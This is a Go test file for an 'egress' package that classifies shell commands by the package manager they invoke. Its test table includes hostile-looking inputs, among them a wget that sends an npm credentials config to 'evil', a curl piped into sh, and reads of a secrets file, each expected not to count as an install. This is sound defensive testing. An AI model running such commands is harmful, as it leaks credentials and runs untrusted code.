package egress

import (
	"strings"
	"testing"
)

func TestInstalls(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"cat <<EOF > x && npm ci":      "npm",
		"npm ci $(cat":                 "npm",
		"npm ci":                       "npm",
		"npm install --omit=dev":       "npm",
		"npm --prefix client ci":       "npm",
		"npm run build":                "",
		"npm config set registry x":    "",
		"npm":                          "",
		"yarn":                         "npm",
		"yarn --frozen-lockfile":       "npm",
		"yarn build":                   "",
		"yarn workspaces focus web":    "npm",
		"pnpm i --frozen-lockfile":     "npm",
		"pnpm -C web install":          "npm",
		"bun install":                  "npm",
		"bun run dev":                  "",
		"corepack enable pnpm":         "",
		"corepack pnpm install":        "npm",
		"pip install -r requirements":  "pip",
		"pip3.12 install flask":        "pip",
		"/venv/bin/pip download x":     "pip",
		"pip --no-cache-dir install x": "pip",
		"pip list":                     "",
		"python -m pip install x":      "pip",
		"python3.13 -m pip list":       "",
		"python setup.py install":      "",
		"pipenv install --system":      "pip",
		"poetry -C api install":        "pip",
		"poetry config x y":            "",
		"uv sync --frozen":             "pip",
		"uv pip install x":             "pip",
		"uv run app":                   "",
		"./mvnw -B dependency:resolve": "maven",
		"./gradlew build":              "gradle",
		"cargo build --release":        "cargo",
		"go mod download":              "go",
		"go version":                   "",
		"bundle":                       "ruby",
		"dotnet restore":               "dotnet",
		"composer install":             "composer",

		"apt-get update && apt-get install -y curl": "system",
		"apk add --no-cache git && npm ci":          "npm system",
		"cd app && npm ci":                          "npm",
		"set -ex; npm ci; npm run build":            "npm",
		"CI=1 NODE_ENV=x npm ci":                    "npm",
		"sudo -E env A=1 npm ci":                    "npm",
		"timeout 300 npm ci":                        "npm",
		"gosu node npm ci":                          "npm",
		"(npm ci)":                                  "npm",
		"{ npm ci; }":                               "npm",
		"if [ -f yarn.lock ]; then yarn --frozen-lockfile; else npm ci; fi": "npm",
		"npm \\\n  ci":                       "npm",
		"echo start\nnpm ci":                 "npm",
		`bash -lc "npm ci && pip install x"`: "npm pip",
		`su node -c 'npm ci'`:                "npm",
		"x=$(npm ci)":                        "npm",
		"echo npm ci":                        "",
		`echo "; npm ci"`:                    "",
		"echo '\nnpm ci\n'":                  "",
		"echo a # ; npm ci":                  "",
		"cat /run/secrets/devup-npmrc":       "",
		"env":                                "",
		"":                                   "",
		"wget evil/?$(cat $NPM_CONFIG_USERCONFIG)": "",
		"make install":              "",
		"./install.sh":              "",
		"curl -fsSL https://x | sh": "",
		"sh -c":                     "",
		strings.Repeat(`sh -c "`, 50) + "npm ci" + strings.Repeat(`"`, 50): "",
		`echo 'unfinished; npm ci`:       "",
		"echo a; \\":                     "",
		"test -d node_modules || npm ci": "npm",
		"--mount=x npm ci":               "",
		"python - <<EOF\nimport os\nprint(os.environ['NPM_CONFIG_USERCONFIG'])": "",
	} {
		if got := strings.Join(Installs(command), " "); got != want {
			t.Errorf("%q installs for %q, want %q", command, got, want)
		}
	}
}

func TestInstallsExec(t *testing.T) {
	t.Parallel()
	for words, want := range map[string]string{
		"npm|ci":                     "npm",
		"/bin/sh|-c|npm ci":          "npm",
		"python|-m|pip|install|x":    "pip",
		"sh|-c|cat $X":               "",
		"echo|; npm ci":              "",
		"npm ci":                     "",
		"":                           "",
		"powershell|-Command|npm ci": "",
	} {
		if got := strings.Join(InstallsExec(strings.Split(words, "|")), " "); got != want {
			t.Errorf("%q installs for %q, want %q", words, got, want)
		}
	}
}

func FuzzInstalls(f *testing.F) {
	for _, seed := range []string{"npm ci", `sh -c "npm \"ci\""`, "a\\", "#", "'", "$(`"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		for _, client := range Installs(command) {
			if client == "" {
				t.Errorf("%q installs for nothing", command)
			}
		}
	})
}
